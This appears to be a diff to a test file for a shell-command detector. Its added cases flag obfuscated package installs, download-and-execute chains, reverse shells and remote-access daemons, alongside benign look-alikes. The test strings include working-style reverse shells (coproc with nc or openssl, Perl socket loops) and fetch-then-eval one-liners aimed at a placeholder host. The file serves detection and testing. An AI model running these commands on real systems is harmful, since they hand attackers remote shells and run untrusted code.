@@ -7,7 +7,7 @@ import { shellListeners } from '../../shared/commands/listeners.ts';
 import { selfUpdates } from '../../shared/commands/self-update.ts';
 import { at } from '../../shared/model/at.ts';
 import { runs } from '../support/extent.ts';
-import { processorMs } from '../support/processor-time.ts';
+import { calmMsSince, processorMs } from '../support/processor-time.ts';
 
 const kinds = (text: string) => selfUpdates(commandsOfText(text)).map(({ what }) => what);
 const shells = (text: string) => shellListeners(commandsOfText(text)).map(({ what }) => what);
@@ -29,6 +29,20 @@ describe('what is expanded', () => {
     ['apk${IFS}add${IFS}x', ['apk add x']],
     ['set -- apk add x; "$@"', ['set -- apk add x', 'apk add x']],
     ['sh -c \'"$@"\' _ apk add', ['apk add']],
+    ["sh -c 'eval \"$0\"' 'apk add'", ['apk add']],
+    ["bash -c '$0 $1 x' apk add", ['apk add x']],
+    ["f() { sh -c 'apk $0' add; }; f", ['apk add']],
+    ['IFS=,; C=apk,add,x; $C', ['', '', 'apk add x']],
+    ["IFS=:; C='apk:add'; $C", ['', '', 'apk add']],
+    ['C=apk,add; IFS=, true; $C', ['', 'true', 'apk,add']],
+    ['C="apk add"; while IFS= read -r l; do :; done; $C', ['', 'read -r l', ':', 'apk add']],
+    ['IFS=,; C=apk,add; echo "$C"', ['', '', 'echo apk,add']],
+    ['echo apk add | dd of=/r.sh; sh /r.sh', ['echo apk add', 'dd of=/r.sh', 'sh /r.sh', 'apk add']],
+    ['echo apk add | dd 2>/dev/null | sh', ['echo apk add', 'dd', 'sh', 'apk add']],
+    [
+      'echo apk add | install -m 755 /dev/stdin /r; /r',
+      ['echo apk add', 'install -m 755 /dev/stdin /r', 'r', 'apk add'],
+    ],
     ['f() { "$@" add; }; f apk', ['apk add']],
     ['f() { apk add; }', ['apk add']],
     ['for a in add; do apk $a; done', ['apk add']],
@@ -119,6 +133,14 @@ describe('downloads that are run', () => {
     'deno run -A https://h/x.ts',
     'node --import https://h/x.mjs app.js',
     'jbang https://h/X.java',
+    'lwp-download https://h/a.pl /tmp/a.pl && perl /tmp/a.pl',
+    'wget2 -O /tmp/a U; sh /tmp/a',
+    'curl U | dd of=/tmp/a status=none; sh /tmp/a',
+    'curl U | sponge /tmp/a; . /tmp/a',
+    'curl U | install -m 755 /dev/stdin /usr/bin/t; t',
+    'sh -c \'curl "$0" | sh\' https://h/i.sh',
+    "node -e \"require('https').get('https://h/x',r=>{let d='';r.on('data',c=>d+=c);r.on('end',()=>eval(d))})\"",
+    "python -c \"import http.client as h; c=h.HTTPSConnection('h'); c.request('GET','/'); exec(c.getresponse().read())\"",
   ])('%s', (text) => {
     expect(kinds(text)).toEqual(['download-run']);
   });
@@ -154,6 +176,13 @@ describe('downloads that are run', () => {
     'echo "apk add" > readme; cat readme',
     'A="apk add"; echo $A',
     ': apk add',
+    'lwp-download https://h/model.bin /models/m && exec app',
+    'curl U | dd of=/data/x bs=1M; exec app',
+    'dd if=/dev/zero of=/swap bs=1M count=8; exec app',
+    'IFS=,; C=apk,add; echo $C',
+    'sh -c \'echo "$0"\' "apk add curl"',
+    'script -qc "npm start" /dev/null',
+    "node -e \"require('https').get('https://h/health',r=>process.exit(r.statusCode===200?0:1))\"",
   ])('%s: none', (text) => {
     expect(kinds(text)).toEqual([]);
   });
@@ -161,6 +190,13 @@ describe('downloads that are run', () => {
 
 describe('installers behind other names', () => {
   it.each([
+    'apk --no-cache --virtual .deps add curl',
+    'apk --wait 5 add curl',
+    'dnf --setopt x=y install curl',
+    'script -qc "apk add curl" /dev/null',
+    'script -q -e -c "apk add curl" /dev/null',
+    'flock -nc "apk add curl"',
+    'IFS=,; C=apk,add,curl; $C',
     'A=apt-get; $A install x',
     'P="apk add curl"; $P',
     'P="apk add curl"; eval $P',
@@ -234,6 +270,10 @@ describe('shells for others', () => {
     'zsh -c "zmodload zsh/net/tcp; ztcp h 443; zsh >&\\$REPLY 2>&\\$REPLY 0>&\\$REPLY"',
     'powershell -c "$c = New-Object System.Net.Sockets.TCPClient(\'h\',443); iex $d"',
     'lua -e \'local s=require("socket"); os.execute(x)\'',
+    'coproc nc h 443; bash <&"${COPROC[0]}" >&"${COPROC[1]}"',
+    'coproc openssl s_client -quiet -connect h:443; while read -r l <&"${COPROC[0]}"; do eval "$l"; done',
+    'perl -MIO -e \'$c=new IO::Socket::INET(PeerAddr,"h:443");STDIN->fdopen($c,r);system$_ while<>\'',
+    "perl -e 'use Socket; socket(S,2,1,6); connect(S,$a); system($_) while <S>'",
   ])('%s', (text) => {
     expect(shells(text)).toEqual(['reverse']);
   });
@@ -243,6 +283,10 @@ describe('shells for others', () => {
     '$(command -v dropbear)',
     'D=sshd; /usr/sbin/$D -D',
     'S="sshd -D"; exec $S',
+    'tcpserver -v 0 22 /usr/sbin/tinysshd /etc/tinyssh',
+    'systemd-socket-activate -l 22 dropbear -i',
+    'gs-netcat -s secret -l -i',
+    'tailscaled & tailscale up --ssh',
   ])('%s', (text) => {
     expect(shells(text)).toEqual(['daemon']);
   });
@@ -258,6 +302,11 @@ describe('shells for others', () => {
     'ruby -e \'TCPSocket.new("db", 5432).close\'',
     "node -e \"require('net').connect(443,'h').on('connect',()=>process.exit(0))\"",
     'php -r \'exit(fsockopen("db",3306)?0:1);\'',
+    'tcpserver 0 8080 /app/server',
+    'tcpserver 0 8080 sh -c "exec /app/server"',
+    'tailscale up --authkey file:/run/key',
+    'coproc app; cat <&"${COPROC[0]}"',
+    'perl -MIO -e \'$c=new IO::Socket::INET(PeerAddr,"db:5432") or exit 1\'',
     'which sshd',
     'mkfifo p; app > p & cat p',
     'powershell -c "(New-Object Net.Sockets.TCPClient(\'db\',1433)).Connected"',
@@ -335,6 +384,6 @@ describe('a verdict', () => {
       'echo x > f; sh f; '.repeat(5000),
     ])
       verdict(text);
-    expect(processorMs() - start).toBeLessThan(10_000);
+    expect(calmMsSince(start)).toBeLessThan(30_000);
   });
 });
